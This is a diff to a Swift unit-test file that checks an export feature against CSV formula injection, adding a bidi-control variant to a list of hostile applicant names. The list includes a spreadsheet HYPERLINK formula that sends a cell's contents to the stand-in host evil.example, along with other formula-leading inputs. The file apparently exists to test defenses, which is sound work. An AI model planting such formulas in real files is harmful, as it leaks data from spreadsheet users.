@@ -16,7 +16,7 @@ final class ExportSafetyTests: XCTestCase {
     /// Names applicants could give their dossier (OWASP « CSV injection »).
     static let hostileNames = [
         #"=HYPERLINK("http://evil.example/?leak="&A1;"Voir le dossier")"#, "=1+1", "+33 6 12 34 56 78", "-2+3", "@SUM(1+1)",
-        "\t=1+1 après une tabulation", "\r=1+1 après un retour chariot",
+        "\t=1+1 après une tabulation", "\r=1+1 après un retour chariot", "\u{202E}=1+1 derrière un contrôle bidi",
     ]
 
     private static let demo = DemoCampaign.bundled()
